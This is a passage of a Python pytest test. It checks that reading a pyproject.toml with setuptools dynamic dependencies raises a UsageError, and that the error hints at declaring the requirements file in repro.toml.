    text = '[project]\nname = "x"\ndynamic = ["dependencies"]\n[tool.setuptools.dynamic]\ndependencies = { file = ["base.txt"] }\n'
    write(tmp_path, {"pyproject.toml": text})
    with pytest.raises(UsageError) as caught:
        read_declared(EnvironmentSpec(pyproject="."), tmp_path)
    assert caught.value.hint == 'declare requirements = "base.txt" in repro.toml, which [tool.setuptools.dynamic] names'
